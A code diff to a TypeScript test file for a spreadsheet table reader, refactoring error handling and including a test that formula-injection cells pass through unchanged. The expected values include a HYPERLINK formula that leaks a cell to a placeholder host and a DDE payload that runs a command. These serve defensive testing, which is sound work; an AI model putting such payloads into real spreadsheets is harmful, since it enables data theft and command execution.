@@ -2,6 +2,7 @@
 import { beforeEach, describe, expect, test } from 'vitest'
 import { readTable } from '../../../main/worker/table/read-table.ts'
 import { minorToDecimal, sumMinor } from '../../../shared/value/money.ts'
+import { answered, asAnswered } from '../../support/as-answered.ts'
 import { readShared, readSharedJson, skipWithoutSharedData } from '../../support/shared-data.ts'
 
 interface Note {
@@ -20,8 +21,10 @@ describe('bad tables', () => {
     const file = await readTable(readShared('data', 'bad', name))
     const wanted = note.want.split('|')
     if (!file.ok) {
-      expect([...wanted, ...(wanted.includes('error') ? ['415', '422'] : [])]).toContain(String(file.error.status))
-      expect(file.error.message).toMatch(/^[A-Z].{15,}\.$/)
+      expect([...wanted, ...(wanted.includes('error') ? ['415', '422'] : [])]).toContain(
+        String(answered(file.error).status),
+      )
+      expect(answered(file.error).message).toMatch(/^[A-Z].{15,}\.$/)
       return
     }
     const rows = file.value.statements.flatMap((statement) => statement.rows)
@@ -34,7 +37,7 @@ describe('bad tables', () => {
 
   test('cells that a spreadsheet would run are kept word for word', async () => {
     const file = await readTable(readShared('data', 'bad', 'csv_formula_injection.csv'))
-    if (!file.ok) throw new Error(file.error.message)
+    if (!file.ok) throw new Error(answered(file.error).message)
     expect(file.value.statements[0]?.rows.map((row) => row.text)).toEqual([
       '=HYPERLINK("http://x.invalid?"&A1,"Klick")',
       "+cmd|' /C calc'!A0",
@@ -57,6 +60,6 @@ describe('bad tables', () => {
     ['xls_encrypted_like.xlsx', 'the workbook is protected by a password'],
   ])('%s says what is wrong', async (name, sentence) => {
     const file = await readTable(readShared('data', 'bad', name))
-    expect(file).toMatchObject({ ok: false, error: { message: expect.stringContaining(sentence) } })
+    expect(asAnswered(file)).toMatchObject({ ok: false, error: { message: expect.stringContaining(sentence) } })
   })
 })
